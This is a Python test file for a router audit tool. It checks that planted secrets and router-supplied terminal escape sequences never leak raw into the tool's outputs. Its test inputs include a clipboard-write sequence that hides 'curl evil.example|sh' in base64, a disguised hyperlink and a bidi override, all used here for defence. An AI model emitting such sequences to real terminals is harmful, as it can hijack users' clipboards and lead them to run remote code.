"""Plant secrets of every kind, and terminal controls, in a router; prove none comes out of cmelive.

The router is ``fixtures/snapshots/planted-secrets`` served by the fake router over real SSH: every
secret form of the masking table (:data:`cmelive.masking.SECRET_SHAPES`) in every command it can
appear in, secrets with spaces, and joined lines (``line vty 0 4 password X``). To it the tests add
router-controlled text carrying terminal control sequences -- in the hostname, interface
descriptions (which checks quote in their messages), a banner, a user name (which checks show as
evidence), SNMP contact -- and, for the fleet, a waiver reason.

Then every output of ``audit`` (text, JSON, ``--output``, ``--save-snapshot``, logs), ``collect``
(the masked snapshot, its meta.json, its lines), ``replay`` (text and JSON, stdout and
``--output``) and ``fleet`` (the run directory: report.json/.csv/.sarif/.junit.xml/.html, every
snapshot file, cmelive.log; stdout and stderr; the history database, raw and every table dumped;
``history`` and ``diff`` of it) is read byte for byte: no planted secret, and no raw control
character, may be found.
"""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import sqlite3
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest

from cmelive.fake.fleet import FakeFleet, FakeRouterSpec
from cmelive.fake.server import FakeRouter
from cmelive.masking import SECRET_SHAPES
from cmelive.snapshot import read_snapshot

from .conftest import FIXTURES
from .livefake import ENABLE_SECRET, PASSWORD, cli, credentials_env, write_known_hosts

PLANTED = FIXTURES / "snapshots" / "planted-secrets"
# Every planted secret contains PLANT, or is one of these: type 7 strings, hex keys (OSPFv3, manual
# IPsec, WEP: "5EC2E7..."), numeric secrets (CAPF and auth strings, PINs, the after-hours
# override code, the ATA IVR password).
MARKERS = (
    "PLANT", "5EC2E7", "053B2A2E0F78", "918273645", "5647382", "71829304", "62738495", "83746592", "94857603",
    "39485761",
)
# Router-controlled text: each sequence a terminal would obey if it were written raw.
CONTROLS = {
    "clear screen (CSI 2J)": "\x1b[2J\x1b[H",
    "window title (OSC 0)": "\x1b]0;owned\x07",
    "clipboard write (OSC 52)": "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07",
    "hyperlink (OSC 8)": "\x1b]8;;http://evil.example/\x1b\\click here\x1b]8;;\x1b\\",
    "8-bit CSI (C1)": "\x9b2J",
    "8-bit OSC (C1)": "\x9d0;title\x9c",
    "backspaces": "ok\x08\x08\x08",
    "bell and escape alone": "\x07\x1b",
    "bidi override": "\u202eevil\u202c",
}
# A raw control in bytes written as UTF-8: C0 but TAB/LF, a CR not ending a line, DEL, C1 (two
# bytes in UTF-8), the bidi overrides and isolates.
RAW_CONTROL = re.compile(
    rb"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]|\r(?!\n)|\xc2[\x80-\x9f]|\xe2\x80[\xaa-\xae]|\xe2\x81[\xa6-\xa9]"
)
LIVE_HOSTNAME = "cme-planted"  # the prompt the fake router shows; the config's hostname holds controls
WAIVER_REASON = "carrier \x1b]52;c;ZXZpbA==\x07 needs it"


def assert_clean(where: str, data: bytes, *, controls: bool = True) -> None:
    for marker in MARKERS:
        assert marker.encode() not in data, f"secret marker {marker!r} leaked into {where}"
    if controls:
        found = RAW_CONTROL.search(data)
        assert found is None, f"raw control {found.group()!r} reached {where}: {data[max(0, found.start() - 60):found.end() + 20]!r}"


def assert_tree_clean(root: Path) -> list[Path]:
    files = sorted(p for p in root.rglob("*") if p.is_file())
    assert files, f"nothing written under {root}"
    for path in files:
        binary = path.suffix in (".sqlite", ".db") or path.name.endswith(("-wal", "-shm", ".lock"))
        assert_clean(str(path), path.read_bytes(), controls=not binary)
    return files


def planted_router(directory: Path) -> Path:
    """The planted fixture plus terminal controls in text the router controls."""
    shutil.copytree(PLANTED, directory)
    config_path = directory / "show_running-config.txt"
    config = config_path.read_text(encoding="utf-8")
    controls = list(CONTROLS.values())
    config = config.replace("hostname cme-planted\n", f"hostname cme-planted{controls[0]}{controls[1]}\n", 1)
    config = config.replace(" description LAN\n", f" description LAN {controls[2]} {controls[3]}\n", 1)
    config = config.replace(" description WAN\n", f" description WAN {controls[4]}{controls[5]} {controls[8]}\n", 1)
    config = config.replace(
        "!\nline con 0\n",
        "!\nusername ops" + controls[2] + " password 7 053B2A2E0F784D0A\n"
        "snmp-server contact Ops " + controls[3] + "\n"
        "banner motd ^C\nAuthorized access only " + controls[0] + controls[6] + controls[7] + "\n"
        "Do not paste " + controls[2] + "\n^C\n!\nline con 0\n",
        1,
    )
    for name, sequence in CONTROLS.items():
        assert sequence in config or name in ("backspaces", "bell and escape alone") and sequence in config, name
    config_path.write_text(config, encoding="utf-8")
    return directory


def test_the_planted_router_holds_every_marker_form_and_control(tmp_path: Path) -> None:
    router = planted_router(tmp_path / "router")
    text = "".join(p.read_text(encoding="utf-8") for p in router.glob("*.txt"))
    for marker in MARKERS:
        assert marker in text
    for sequence in CONTROLS.values():
        assert sequence in text
    # Every form of the masking table is planted in the router (the planted lines that hold it
    # are masked: checked by test_secret_forms; here, that the fixture is complete).
    lead = re.compile(r"\s*(?:no\s+)?")
    lines = text.split("\n")
    missing = []
    for shape in SECRET_SHAPES:
        if "no secret" in shape.form:
            continue
        for line in lines:
            start = lead.match(line).end()  # type: ignore[union-attr]
            matcher = shape.pattern.match if shape.first is not None or shape.anchored else shape.pattern.search
            if matcher(line, start) is not None:
                break
        else:
            missing.append(shape.form)
    assert missing == [
        # Show-command forms with no place in the fixture's outputs, and commands only typed at exec.
        "... passphrase [TYPE] SECRET (crypto key import/encrypt, pki export)",
        "a=crypto:N SUITE inline:KEY|lifetime (SDP)",
    ]


def test_live_audit_and_collect_leak_nothing(tmp_path: Path) -> None:
    snapshot = read_snapshot(planted_router(tmp_path / "router"))
    with FakeRouter(
        snapshot, hostname=LIVE_HOSTNAME, username="admin", password=PASSWORD, enable_secret=ENABLE_SECRET
    ) as router:
        known_hosts = write_known_hosts(tmp_path / "known_hosts", router.known_hosts_line())
        base = ["audit", router.host, "--port", str(router.port), "-u", "admin", "--known-hosts", str(known_hosts)]
        saved = tmp_path / "saved"
        report_file = tmp_path / "audit.json"
        runs = [
            cli(*base, "--format", "json", "-vv", "--save-snapshot", str(saved), env=credentials_env()),
            cli(*base, "--format", "text", "-vv", env=credentials_env()),
            cli(*base, "--format", "json", "--output", str(report_file), "-vv", env=credentials_env()),
        ]
        collected = tmp_path / "collected"
        runs.append(cli("collect", router.host, "--port", str(router.port), "-u", "admin", "--known-hosts",
                        str(known_hosts), "-o", str(collected), "-vv", env=credentials_env()))
    for proc in runs:
        assert proc.returncode in (0, 1), proc.stderr
        assert_clean("stdout", proc.stdout.encode())
        assert_clean("stderr/log", proc.stderr.encode())
    assert "\\x1b]52;c;" in runs[1].stdout or "\\x1b]52;c;" in report_file.read_text(encoding="utf-8")
    assert_clean(str(report_file), report_file.read_bytes())
    for directory in (saved, collected):
        files = assert_tree_clean(directory)
        assert {p.name for p in files} >= {"meta.json", "show_running-config.txt"}
    # What the checks show of the controls they quote: visible escapes, never the bytes.
    assert "\\x1b]52;c;" in (collected / "show_running-config.txt").read_text(encoding="utf-8")


@pytest.mark.parametrize("fmt", ["text", "json"])
def test_replay_reports_leak_nothing(tmp_path: Path, fmt: str) -> None:
    router = planted_router(tmp_path / "router")
    out = tmp_path / f"report.{fmt}"
    to_file = cli("replay", str(router), "--format", fmt, "--output", str(out), "-vv")
    to_stdout = cli("replay", str(router), "--format", fmt, "-vv")
    for proc in (to_file, to_stdout):
        assert proc.returncode in (0, 1), proc.stderr
        assert_clean("stderr/log", proc.stderr.encode())
    assert_clean(f"{fmt} report", out.read_bytes())
    assert_clean(f"{fmt} report on stdout", to_stdout.stdout.encode())
    shown = out.read_text(encoding="utf-8")
    if fmt == "json":
        shown = json.dumps(json.loads(shown), ensure_ascii=False).replace("\\\\", "\\")
    # The hostname (the report's header) and a description (quoted in CDP/REG messages) are shown.
    assert "cme-planted\\x1b[2J" in shown
    assert "\\u202eevil\\u202c" in shown


def test_fleet_run_directory_history_and_logs_leak_nothing(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    router = planted_router(tmp_path / "router")
    waivers = tmp_path / "waivers.yaml"
    waivers.write_text(
        "- check: CME-CDP-01\n"
        "  device: planted-*\n"
        '  reason: "carrier \\e]52;c;ZXZpbA==\\a needs it"\n'
        "  owner: noc@example.com\n"
        "  expires: 2999-12-31\n",
        encoding="utf-8",
    )
    specs = [
        FakeRouterSpec(name="planted-1", snapshot=router, hostname=LIVE_HOSTNAME, groups=("planted",)),
        FakeRouterSpec(name="planted-2", snapshot=router, hostname=LIVE_HOSTNAME, groups=("planted",)),
    ]
    db = tmp_path / "history.sqlite"
    with FakeFleet(specs) as fleet:
        inventory = fleet.write_inventory(
            tmp_path / "inventory.yaml", password_env="FLEET_PW", enable_secret_env="FLEET_EN",
            known_hosts=tmp_path / "fleet_known_hosts",
        )
        env = fleet.environment(password_env="FLEET_PW", enable_secret_env="FLEET_EN")
        runs = []
        for n in (1, 2):
            runs.append(cli("fleet", str(inventory), "-o", str(tmp_path / f"run{n}"), "--db", str(db),
                            "--waivers", str(waivers), "--workers", "2", "-vv", env=env))
    for proc in runs:
        assert proc.returncode in (0, 1), proc.stderr
        assert_clean("fleet stdout", proc.stdout.encode())
        assert_clean("fleet stderr", proc.stderr.encode())
    for n in (1, 2):
        files = assert_tree_clean(tmp_path / f"run{n}")
        names = {p.name for p in files}
        assert {"report.json", "report.csv", "report.sarif", "report.junit.xml", "report.html", "cmelive.log"} <= names
        assert sum(1 for p in files if p.name == "show_running-config.txt") == 2
    # Scrubbed text keeps every format valid: JSON and SARIF load, JUnit is XML 1.0, the CSV reads back.
    run = tmp_path / "run1"
    json.loads((run / "report.sarif").read_text(encoding="utf-8"))
    ET.parse(run / "report.junit.xml")
    rows = list(csv.DictReader(io.StringIO((run / "report.csv").read_text(encoding="utf-8-sig"))))
    assert any("\\x1b]52;c;" in row["evidence"] for row in rows)
    report = (run / "report.json").read_text(encoding="utf-8")
    json.loads(report)
    assert "\\\\x1b]52;c;ZXZpbA==\\\\x07" in report  # the waiver's reason, shown (JSON-escaped backslash)
    # The history: the database file as stored, and every row of every table as text.
    for path in tmp_path.glob("history.sqlite*"):
        assert_clean(str(path), path.read_bytes(), controls=False)
    with sqlite3.connect(db) as conn:
        tables = [row[0] for row in conn.execute("SELECT name FROM sqlite_master WHERE type = 'table'")]
        assert {"runs", "devices", "results"} <= set(tables)
        for table in tables:
            rows = conn.execute(f"SELECT * FROM {table}").fetchall()
            dump = "\n".join(repr(row) for row in rows) + "\n" + "\n".join(
                str(value) for row in rows for value in row if isinstance(value, str)
            )
            assert_clean(f"history table {table}", dump.encode("utf-8"))
        assert conn.execute("SELECT count(*) FROM results").fetchone()[0] > 0
    history = [cli("history", "--db", str(db)), cli("diff", "--db", str(db)), cli("diff", "--db", str(db), "--format", "json")]
    for proc in history:
        assert proc.returncode == 0, proc.stderr
        assert_clean("history/diff output", (proc.stdout + proc.stderr).encode())
